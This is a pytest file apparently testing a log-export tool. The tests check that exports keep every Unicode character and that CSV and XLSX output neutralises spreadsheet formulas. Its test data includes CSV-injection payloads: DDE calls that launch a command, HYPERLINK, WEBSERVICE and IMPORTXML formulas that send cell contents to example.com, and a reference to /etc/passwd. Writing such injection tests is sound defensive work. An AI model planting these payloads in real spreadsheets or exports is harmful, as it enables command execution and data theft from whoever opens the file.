"""
Texts on their way out: every character as it was recorded, and nothing that a spreadsheet would evaluate.
"""

import csv
import io
import json
import random
import sys
import unicodedata
from collections.abc import Iterator
from itertools import islice, product

import openpyxl
import pyarrow as pa
import pytest
from pyarrow import parquet

from steward import Client, ExportFormat
from stewardd.testing import running_server
from tests.samples import interaction, recorded

COUNT = 10_000
BATCH = 1000
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")  # OWASP, CSV Injection
PAYLOADS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com?x="&A1,"more")',
    'WEBSERVICE("http://example.com")',
    'IMPORTXML(CONCAT("http://example.com?",A1),"//a")',
    'DDE("cmd";"/C calc";"a")',
    "'file:///etc/passwd'#$passwd.A1",
    "2+5+cmd|' /C calc'!A0",
    '","=1+1',
    '"\n=1+1',
    "",
)
BEFORE = ("", "'", "''", "=", "+-")
FORMULAS = [before + start + payload for before, start, payload in product(BEFORE, DANGEROUS, PAYLOADS)][:500]


def characters() -> dict[str, list[str]]:
    """Return all characters that a text may have, by their category. Surrogates are none, and NUL is refused."""
    found: dict[str, list[str]] = {}
    for number in range(1, sys.maxunicode + 1):
        character = chr(number)
        found.setdefault(unicodedata.category(character), []).append(character)
    del found["Cs"]
    return found


def texts() -> Iterator[str]:
    """Yield texts without end, each of one category in turn, with a character of another in it."""
    chance = random.Random(20)
    by_category = characters()
    names = sorted(by_category)
    while True:
        for name in names:
            some = chance.choices(by_category[name], k=chance.randint(1, 12))
            some.insert(chance.randint(0, len(some)), chance.choice(by_category[chance.choice(names)]))
            yield "".join(some)


TEXTS = list(islice(texts(), COUNT))


@pytest.fixture(scope="module")
def filled() -> Iterator[Client]:
    """A client of a server with TEXTS, recorded in their order."""
    with running_server() as running, Client(running.target) as connected:
        for start in range(0, COUNT, BATCH):
            receipts = recorded(connected, *(interaction(query=each) for each in TEXTS[start : start + BATCH]))
            assert not any(each.redactions for each in receipts)
        yield connected


def whole(client: Client, form: ExportFormat, *, raw: bool = False) -> bytes:
    """Return the interactions as a file."""
    return b"".join(client.export_table("interactions", format=form, raw=raw))


def test_the_texts_are_of_every_category() -> None:
    """
    There are 29 general categories beside that of surrogates, and each is among the texts.
    """
    found = {unicodedata.category(character) for text in TEXTS for character in text}

    assert (29, set(characters())) == (len(found), found)


def test_json_lines_keep_every_character(filled: Client) -> None:
    """
    Each of 10,000 texts of all categories is read back from JSON Lines as it was recorded.
    """
    lines = whole(filled, ExportFormat.JSONL).decode().split("\n")[:-1]

    assert TEXTS == [json.loads(line)["query"] for line in lines]


def test_raw_csv_keeps_every_character(filled: Client) -> None:
    """
    Each of 10,000 texts of all categories is read back from raw CSV as it was recorded.
    """
    text = io.StringIO(whole(filled, ExportFormat.CSV, raw=True).decode(), newline="")

    assert TEXTS == [row["query"] for row in csv.DictReader(text)]


@pytest.mark.parametrize("form", [ExportFormat.PARQUET, ExportFormat.ARROW], ids=["parquet", "arrow"])
def test_typed_files_keep_every_character(filled: Client, form: ExportFormat) -> None:
    """
    Each of 10,000 texts of all categories is read back from Parquet and Arrow as it was recorded.
    """
    content = whole(filled, form)
    table = parquet.read_table(io.BytesIO(content)) if form is ExportFormat.PARQUET else None

    assert TEXTS == (table or pa.ipc.open_stream(content).read_all())["query"].to_pylist()


def test_the_typed_stream_keeps_every_character(filled: Client) -> None:
    """
    Each of 10,000 texts of all categories comes as it was recorded, as a value and in a table.
    """
    assert TEXTS == [each.query for each in filled.export_interactions()]
    assert TEXTS == filled.export_interactions().to_arrow()["query"].to_pylist()


def test_no_formula_is_left_in_csv_or_xlsx(client: Client) -> None:
    """
    Of 500 cells that a spreadsheet would evaluate none is left; less one apostrophe, all are as they were recorded.
    """
    for start in range(0, len(FORMULAS), 100):
        each = FORMULAS[start : start + 100]
        recorded(client, *(interaction(query=text, user_role=text, query_type=text) for text in each))

    rows = list(csv.reader(io.StringIO(whole(client, ExportFormat.CSV).decode(), newline="")))[1:]
    book = openpyxl.load_workbook(io.BytesIO(whole(client, ExportFormat.XLSX)))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]

    assert 500 == len(FORMULAS) == len(set(FORMULAS)) == len(rows)
    assert [] == [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
    assert [[f"'{text}"] * 3 for text in FORMULAS] == [row[4:7] for row in rows]
    assert [] == [cell for cell in cells if cell.data_type == "f" or cell.hyperlink is not None]
    assert [] == [cell for cell in cells if str(cell.value).startswith(DANGEROUS) and cell.data_type == "s"]
